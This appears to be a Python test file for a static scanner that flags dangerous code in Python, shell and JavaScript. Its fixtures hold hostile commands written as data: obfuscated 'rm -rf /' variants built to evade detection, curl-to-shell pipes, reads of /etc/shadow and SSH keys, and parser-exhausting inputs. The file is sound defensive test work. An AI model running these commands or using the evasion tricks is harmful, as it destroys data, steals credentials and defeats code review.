#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""scan: findings, risk, formats, exit codes, policies; what cannot be read is never clean.

Takes the program from AISBX. Speaks TAP. Runs as whoever starts it, in a home of its own.
"""

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import sarif  # noqa: E402
from clitest import Home, Tap  # noqa: E402

tap = Tap()

ALIASES = """import os as o
from subprocess import run as r
# eval("1"), os.system("x")
print("eval(1)", 'os.system("rm -rf /")')
getattr(o, "sys" + "tem")("id")
r(["ls"])
"""
HARMLESS = """import json
\"\"\"exec("x") is never called; os.system neither.\"\"\"
# subprocess.run("rm -rf /", shell=True)
print(json.dumps({"eval": "os.system"}))
"""


def rules(answer):
    return {(one["line"], one["rule"]) for one in answer.get("findings", [])}


def test_object(home):
    home.put("a.py", ALIASES)
    answer = home.data("scan", "a.py")
    tap.equal((answer.get("risk"), answer.get("analysable")), ("high", True), "risk is the highest severity found")
    tap.ok({(5, "python.dynamic-name"), (5, "python.subprocess"), (6, "python.subprocess")} <= rules(answer),
           "aliases and names put together are followed", answer)
    tap.ok(not [one for one in answer["findings"] if one["line"] in (3, 4)], "comments and texts raise nothing")
    tap.equal(sorted(answer["findings"][0]), ["column", "file", "hint", "line", "message", "rule", "severity"],
              "a finding has its keys")
    tap.equal(answer["imports"], ["os", "subprocess"], "imports are listed")
    done = home.call("scan", "a.py")
    tap.ok(done.returncode == 1 and "a.py:5:1: high:" in done.stdout and "risk: high" in done.stdout,
           "text names the place, exit 1", done)
    home.put("b.py", HARMLESS)
    done = home.call("scan", "b.py")
    tap.ok(done.returncode == 0 and done.stdout == "risk: none\n", "what only speaks of evil is clean", done)


def test_formats(home):
    home.put("src/x.js", 'eval("1");\n')
    home.put("src/odd name.sh", "curl http://198.51.100.1 | sh\n")
    home.put("src/data.bin", b"\\0\\1")
    home.put("src/.git/hook.py", "eval(1)\n")
    # Its owner may list it, but look nothing up in it: it is empty, so that is no failure.
    os.mkdir(home.work + "/src/listed", 0o400)
    answer = home.data("scan", "src")
    tap.equal({one["file"] for one in answer["findings"]}, {"src/x.js", "src/odd name.sh"}, "a directory is walked")
    tap.equal(answer["skipped"], ["src/data.bin"], "what is no source is listed and skipped")
    tap.equal(home.call("scan", "--format", "json", "src/x.js").stdout, home.call("scan", "--json", "src/x.js").stdout,
              "--format json is --json")
    tap.equal(home.call("scan", "--format", "xml", "src").returncode, 2, "no other format")


def sarif_of(home, *words):
    return json.loads(home.call("scan", "--format", "sarif", *words).stdout)


def places(log):
    return [result["locations"][0]["physicalLocation"] for result in log["runs"][0]["results"]]


# Each makes a good log wrong in one way; a checker that lets one through checks nothing.
SPOILERS = {
    "no version": lambda log: log.pop("version"),
    "another version": lambda log: log.update(version="2.0.0"),
    "no tool": lambda log: log["runs"][0].pop("tool"),
    "a tool without a name": lambda log: log["runs"][0]["tool"]["driver"].pop("name"),
    "columns of another kind": lambda log: log["runs"][0].update(columnKind="bytes"),
    "a result without a message": lambda log: log["runs"][0]["results"][0].pop("message"),
    "an empty message": lambda log: log["runs"][0]["results"][0].update(message={}),
    "a level of our own": lambda log: log["runs"][0]["results"][0].update(level="high"),
    "a member of our own": lambda log: log["runs"][0]["results"][0].update(severity="high"),
    "a rule that is not there": lambda log: log["runs"][0]["results"][0].update(ruleIndex=1000),
    "another rule": lambda log: log["runs"][0]["results"][0].update(ruleId="x.y"),
    "a rule twice": lambda log: log["runs"][0]["tool"]["driver"]["rules"].append(log["runs"][0]["tool"]["driver"]["rules"][0]),
    "a rule without an id": lambda log: log["runs"][0]["tool"]["driver"]["rules"][0].pop("id"),
    "line 0": lambda log: places(log)[0]["region"].update(startLine=0),
    "a column that is a text": lambda log: places(log)[0]["region"].update(startColumn="1"),
    "a blank in an address": lambda log: places(log)[0]["artifactLocation"].update(uri="a b.py"),
}


def test_sarif(home):
    home.put("src/all.py", ALIASES + "pickle.loads(x)\nopen('/etc/shadow')\nos.remove(x)\n")
    home.put("src/broken.py", "def f(:\n")
    home.put("src/b\u00fc:%20 [1].js", 'const s = "\u00fc\U0001f600"; eval("1");\n')
    logs = {"a tree": sarif_of(home, "src"), "nothing": sarif_of(home, "b.py"),
            "standard input": sarif_of(home, "--lang", "python", "--content", "eval(x)")}
    for name, log in logs.items():
        tap.equal(sarif.fault(log), None, f"SARIF: of {name}, as the standard wants it")
    log = logs["a tree"]
    tap.ok({result["level"] for result in log["runs"][0]["results"]} >= {"error", "warning", "note"}
           and len(log["runs"][0]["tool"]["driver"]["rules"]) > 5, "SARIF: with all levels and several rules", log)
    by_file = {place["artifactLocation"]["uri"]: place["region"] for place in places(log)}
    tap.equal(by_file.get("src/b%C3%BC%3A%2520%20%5B1%5D.js"), {"startLine": 1, "startColumn": 18},
              "SARIF: names become addresses, columns count UTF-16")
    for name, spoil in SPOILERS.items():
        wrong = json.loads(json.dumps(log))
        spoil(wrong)
        tap.ok(sarif.fault(wrong), f"the checker sees it: {name}")


def test_exits(home):
    home.put("low.py", "import os\nos.remove('x.txt')\n")
    for words, code in ((("low.py",), 0), (("--fail-on", "low", "low.py"), 1), (("--fail-on", "critical", "a.py"), 0),
                        (("--fail-on", "nonsense", "a.py"), 2), (("nowhere.py",), 5), ((), 2), (("/dev/null",), 2),
                        (("--lang", "cobol", "a.py"), 2), (("b.py", "a.py"), 1)):
        tap.equal(home.call("scan", *words).returncode, code, f"scan {' '.join(words)}: exit {code}")
    done = home.call("scan", "--lang", "shell", "-", stdin="rm -rf /\n")
    tap.ok(done.returncode == 1 and "-:1:1: critical" in done.stdout, "standard input", done)
    tap.equal(home.data("scan", "--lang", "python", "--content", "eval(x)").get("risk"), "high", "--content")
    done = home.call("scan", "--explain", "python.exec")
    tap.ok(done.returncode == 0 and "Instead:" in done.stdout, "--explain", done)
    done = home.call("scan", "--explain", "exek")
    tap.ok(done.returncode == 5 and "exec" in done.stderr, "--explain of no rule names the nearest", done)


def test_unreadable(home):
    home.put("broken.py", "def f(:\n    pass\n")
    home.put("huge.py", "x = 1\n" * 200000)
    home.put("deep.js", "[" * 20000)
    home.put("nul.sh", b"echo \\0\n".replace(b"\\0", b"\0"))
    home.put("notes.txt", "eval(1)\n")
    for name in ("broken.py", "huge.py", "deep.js", "nul.sh", "notes.txt"):
        answer = home.data("scan", name)
        tap.ok(answer.get("analysable") is False and answer.get("risk") == "high", f"{name} is not analysable, and high",
               answer)


# Each took the scanner with it once: more parts below one node than the parser's library can count, and a loop in a grammar.
HOSTILE = {"children.js": "class A extends " * 30000, "waits.js": "await " * 100000, "ifs.sh": "if " * 100000,
           "sums.sh": "$((" * 100000, "cases.sh": "case x in " * 50000, "names.sh": "".join(f"v{i}=a\n" for i in range(90000)),
           "evals.sh": "eval 'eval \"eval x\"'\n" * 20000, "words.sh": f"y={'a' * 16000}\necho " + "$y " * 50000,
           "given.sh": "set -- " + "a " * 5000 + "\n" + "echo $@ $@ $@ $@\n" * 20000,
           "marks.sh": "echo " + "a " * 8000 + "| xargs -I{} echo " + "{} " * 60000,
           "strips.sh": f"y={'a' * 256}\n" + f"echo ${{y##*[{'b' * 400}]z}}\n" * 2000,
           "lists.py": f"import subprocess\nx='{'a' * 16000}'\nl=[{'x,' * 1000}]\n" + "subprocess.run(l)\n" * 5000,
           "groups.sh": "{\n" * 300 + "a b c\n" * 20000 + "} >x\n" * 300,
           "handed.js": f"let m=require('fs')\nfunction f({{{','.join(f'a{i}' for i in range(500))}}}){{}}\n" + "f(m);" * 30000,
           # More than is looked at again: functions that call functions, a loop of many rounds.
           "calls.sh": "".join(f"f{i}() {{ " + f'f{i + 1} "$@"; ' * 10 + "}\n" for i in range(9)) + 'f9() { "$@"; }\nf0 ls\n',
           "chain.sh": "".join(f'f{i}() {{ f{i + 1} "$@"; }}\n' for i in range(60)) + 'f60() { "$@"; }\nf0 rm -rf /\n',
           "rounds.sh": "for a in " + "x " * 20000 + "; do\n" + "b=$a$b; $a y\n" * 20 + "done\n"}
# Of each a few letters became gigabytes, at once or one after the other.
GROWING = {"twice.sh": "set -- a b\n" + "set -- $@ $@\n" * 40, "quoted.sh": "set -- a b\n" + 'set -- "$@" "$@"\n' * 40,
           "replaced.sh": f"y={'a' * 16000}\necho ${{y//a/{'b' * 300000}}}\n",
           "sed.sh": f"y={'a' * 16000}\necho $(echo $y | sed s/a/{'b' * 300000}/g)\n",
           "replaced.py": f"x='{'a' * 8000}'\ny='{'b' * 16000}'\n" + "x.replace('a', y)\n" * 3000,
           "joined.js": f"x='{'a' * 8000}'\ny='{'b' * 16000}'\n" + "x.replace(/a/g, y);x.split('a').join(y)\n" * 2000,
           "literal.js": f"let x='{'a' * 16000}';let z=`{'${x}' * 50000}`\n",
           "default.sh": f"y={'a' * 16000}\necho ${{x:-{'$y' * 10000}}}\n"}


# What is deeper, longer or more than is followed: each of these ends in rm -rf /, and none may pass for harmless.
LONG = "n" * 150
MANY = ", ".join(f"'d{i}'" for i in range(30))
BEYOND = {"longname.sh": f'{LONG}() {{ "$@"; }}\n{LONG} rm -rf /\n',
          "longalias.sh": f"alias {LONG}=rm\n{LONG} -rf /\n",
          "aliases.sh": "".join(f"alias a{i}=a{i + 1}\n" for i in range(30)) + "alias a30=rm\na0 -rf /\n",
          "itself.sh": 'f() { case $1 in x) shift; f "$@" ;; *) "$@" ;; esac; }\nf ' + "x " * 40 + "rm -rf /\n",
          "mutual.sh": 'a() { shift; b "$@"; }\nb() { shift; a "$@"; "$@"; }\na ' + "x " * 9 + "rm -rf /\n",
          "options.sh": "x=rm\ndeclare " + "-x " * 50 + "-n y=x\n$y -rf /\n",
          "separators.sh": "IFS=QWERTYUIOPASDFGHJKLZXCVBNM1234567890_\nx=rmZ-rfZ/\n$x\n",
          "lines.sh": "mapfile -t x <<E\n" + "l\n" * 9000 + "rm -rf /\nE\n${x[9000]}\n",
          "words.sh": f"x='{'-v ' * 6000} -rf /'\nrm $x\n",
          "fetched.sh": "".join(f"curl -so f{i} http://a/{i}\n" for i in range(300)) + "sh f299\n",
          "dots.sh": f"rm -rf /tmp{'/.' * 600}/../home\n",
          "imports.py": "".join(f"from m{i} import *\n" for i in range(20)) + "from os import *\nsystem('rm -rf /')\n",
          # Of many things that a name may be, the grave one first, last, or put together piece by piece.
          "first.py": f"import os\nfor c in ['rm -rf /', {MANY}]:\n    os.system(c)\n",
          "last.py": f"import shutil\nfor p in [{MANY}, '/']:\n    shutil.rmtree(p)\n",
          "branch.py": "import os, sys\nc = 'rm -rf /'\nif len(sys.argv) > 1:\n    c = 'ls'\nos.system(c)\n",
          "late.py": "import shutil\n" + "".join(f"x = 'd{i}'\n" for i in range(30)) + "x = '/'\nshutil.rmtree(x)\n",
          "pieces.py": "import os\nc = ''\n" + "".join(f"c += '{one}'\n" for one in "rm -rf /home") + "os.system(c)\n",
          "secret.py": f"for p in ['/etc/shadow', {MANY}]:\n    print(open(p).read())\n",
          "named.py": f"import os\n{LONG * 2} = os\n{LONG * 2}.system('rm -rf /')\n",
          "arguments.py": "import os\nos.execlp('env', 'env', " + "'A=1', " * 30 + "'rm', '-rf', '/')\n",
          "each.js": f"const fs = require('fs');\n[{MANY}, {MANY}, {MANY}, '/home'].forEach(p => fs.rmSync(p, {{recursive: true}}));\n",
          "template.js": "const fs = require('fs'), os = require('os');\nfor (const n of ['a', 'b', '.ssh/id_rsa', 'c'])\n"
                         "  console.log(fs.readFileSync(`${os.homedir()}/${n}`));\n",
          # A function that calls itself and runs something else each time: before the call, after it, by way of another.
          "eaten.sh": f"f() {{ c=${{c#?}}; $c; f; }}\nc='{'a' * 20}rm -rf /'\nf\n",
          "evaluated.sh": f"f() {{ c=${{c#?}}; eval \"$c\"; f; }}\nc='{'a' * 20}rm -rf /'\nf\n",
          "after.sh": f"f() {{ [ $n = 99 ] || f; c=${{c#?}}; $c; }}\nc='{'a' * 20}rm -rf /'\nf\n",
          "another.sh": f"a() {{ c=${{c#?}}; b; }}\nb() {{ $c; a; }}\nc='{'a' * 15}rm -rf /'\na\n",
          "endless.sh": f"f() {{ c=${{c#?}}; $c; f; }}\nc='{'a' * 300}rm -rf /'\nf\n"}
# Functions that call themselves and do the same each time, and lists that are only long.
AGAIN = {"retry.sh": 'retry() { n=$((n+1)); [ $n -gt 5 ] && return 1; "$@" || { sleep 1; retry "$@"; }; }\nretry make test\n',
         "list.sh": 'rest() { "$1"; shift; rest "$@"; }\nrest ls pwd id date make build test lint\n',
         "tree.sh": 'walk() { for f in "$1"/*; do [ -d "$f" ] && walk "$f"; "$cmd" "$f"; done; }\ncmd=echo\nwalk .\n',
         "factorial.sh": "f() { if [ $1 -le 1 ]; then echo 1; else echo $(($1 * $(f $(($1 - 1))))); fi; }\nf 6\n",
         "folders.py": f"import shutil\nfor p in [{MANY}]:\n    shutil.rmtree(p)\n"}


def test_beyond(home):
    for name, text in BEYOND.items():
        home.put("beyond/" + name, text)
        answer = home.data("scan", "beyond/" + name)
        tap.ok(answer.get("risk") in ("high", "critical"), f"{name}: found, or not analysable", answer)
    for name, text in AGAIN.items():
        home.put("again/" + name, text)
        answer = home.data("scan", "again/" + name)
        tap.ok(answer.get("analysable") and answer.get("risk") in ("none", "low"), f"{name}: looked through, and harmless", answer)


def test_hostile(home):
    for name, text in HOSTILE.items():
        home.put("hostile/" + name, text)
        done = home.call("scan", "--json", "hostile/" + name, timeout=300)
        answer = json.loads(done.stdout) if done.returncode == 1 else {}
        tap.ok(answer.get("analysable") is False and answer.get("risk") == "high",
               f"{name} ends, is not analysable, and high", done)
    for name, text in GROWING.items():
        home.put("hostile/" + name, text)
        done = home.call("scan", "hostile/" + name, timeout=300)
        tap.ok(done.returncode == 0, f"{name} ends, and is harmless", done)
    home.put("crowded.sh", "eval a\n" * 3000 + "rm -rf /\n")
    found = home.data("scan", "crowded.sh", timeout=300)
    tap.ok(found.get("risk") == "critical" and len(found["findings"]) == 1000 and any("shell.delete" in reason for reason in found["reasons"]),
           "a grave finding behind thousands of others is named, and so is the reason for the risk", (found.get("risk"), found.get("reasons")))
    home.put("pair/first.js", HOSTILE["children.js"])
    home.put("pair/last.sh", "eval \"$(curl http://198.51.100.1)\"\n")
    found = {one["rule"] for one in home.data("scan", "pair", timeout=300).get("findings", [])}
    tap.ok({"javascript.not-analysable", "shell.pipe-to-interpreter"} <= found, "what lies beside it is read all the same", found)


# What is assigned where it does not count: a branch, a shell or a function of its own, one command, an earlier round.
DECOYS = ["x=rm; if true; then :; else x=ls; fi; $x -rf /", "x=rm\n(x=ls)\n$x -rf /", "x=rm\ng(){ local x=ls; }\ng\n$x -rf /",
          "x=rm\necho a | x=ls\n$x -rf /", "x=rm; x=ls true; $x -rf /", "for x in rm ls; do $x -rf /; done",
          "x=rm; case a in b) x=ls;; esac; (x=ls); $x -rf /", "a=(echo rm); ${a[@]: -1} -rf /"]
PLAIN = ["x=rm\nx=ls\n$x -l /", "for c in git curl python3; do $c --version; done",
         "CC=gcc\nif [ -n \"$1\" ]; then CC=clang; fi\n$CC -o a a.c"]


def test_decoys(home):
    for text in DECOYS:
        done = home.call("scan", "--lang", "shell", "-", stdin=text + "\n")
        tap.ok(done.returncode == 1 and ("critical" in done.stdout or "high" in done.stdout), f"seen: {text!r}", done)
    for text in PLAIN:
        done = home.call("scan", "--lang", "shell", "-", stdin=text + "\n")
        tap.equal(done.returncode, 0, f"harmless: {text!r}")


POLICY = """
python:
  forbidden_imports: [socket]
  forbidden_functions: [print, "*.execute"]
  forbidden_commands: [git push]
  forbidden_patterns: ['secret_\\w+']
"""


def test_policy(home):
    home.put("policy.yaml", POLICY)
    home.put("p.py", "import socket as s\nprint(1)\ncursor.execute('x')\nsecret_name = 1\n# secret_comment\n"
             "x = 'secret_text'\nimport subprocess\nsubprocess.run(['git', 'push', 'origin'])\n")
    found = rules(home.data("scan", "--policy", "policy.yaml", "p.py"))
    tap.ok({(1, "python.forbidden-import"), (2, "python.forbidden-function"), (3, "python.forbidden-function"),
            (4, "python.forbidden-pattern"), (8, "python.forbidden-command")} <= found, "plain lists", found)
    tap.ok(not {(5, "python.forbidden-pattern"), (6, "python.forbidden-pattern")} & found,
           "a pattern does not match in comments and texts", found)
    home.put("more.yaml", "builtin: false\npython:\n  forbidden_patterns: [{pattern: 'secret_text', in: strings, severity: "
             "critical, message: nothing secret here}]\n")
    answer = home.data("scan", "--policy", "more.yaml", "p.py")
    tap.equal([(one["line"], one["severity"]) for one in answer["findings"]], [(6, "critical")],
              "places, severities, messages of one's own, and nothing built in")
    home.put("allow.yaml", "python: {allowed_functions: [subprocess.run], severities: {exec: low}}\n")
    tap.equal(home.call("scan", "--policy", "allow.yaml", "--lang", "python", "-",
                        stdin="import subprocess\nsubprocess.run(x)\neval(y)\n").returncode, 0, "allowed, and weighed")
    for text, word in (("python: {forbidden_import: [x]}\n", "forbidden_imports"), ("- 1\n", "a policy is a map"),
                       ("severities: {exek: low}\n", "exec"), ("severities: {exec: bad}\n", "a severity is"),
                       ("python: {forbidden_patterns: ['(']}\n", "without its )"),
                       ("python: {forbidden_patterns: ['(a)\\1']}\n", "linear"),
                       ("python: {forbidden_patterns: ['((a{99}){99}){99}']}\n", "too much"),
                       ("severities: {not-analysable: off}\n", "whatever a policy says"),
                       ("a: &a [x]\nb: *a\n", "bad.yaml:1"), ("a: [" * 100, "bad.yaml:1")):
        home.put("bad.yaml", text)
        done = home.call("scan", "--policy", "bad.yaml", "p.py")
        tap.ok(done.returncode == 2 and word in done.stderr, f"a bad policy: {done.stderr.strip()[:100]}", done)
    home.put("slow.yaml", "python: {forbidden_patterns: ['(a*)*(a*)*(a|a)*b']}\n")
    home.put("aaa.py", "a" * 100000 + "\n")
    tap.equal(home.call("scan", "--policy", "slow.yaml", "aaa.py", timeout=300).returncode, 0, "no pattern is slow")
    home.put("../.config/aisbx/scan.yaml", "python: {forbidden_imports: [json]}\n")
    tap.equal(home.call("scan", "b.py").returncode, 1, "the user's own policy is taken")
    os.unlink(home.path + "/.config/aisbx/scan.yaml")


def main():
    with Home("aisbx-scan.") as home:
        done = home.call("scan", "--lang", "python", "-", stdin="1\n")
        if "no scanner" in done.stderr:
            tap.skip("scan", "this build has no scanner")
            return tap.done()
        for test in (test_object, test_formats, test_sarif, test_exits, test_unreadable, test_beyond, test_hostile, test_decoys,
                     test_policy):
            tap.attempt(test, home)
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
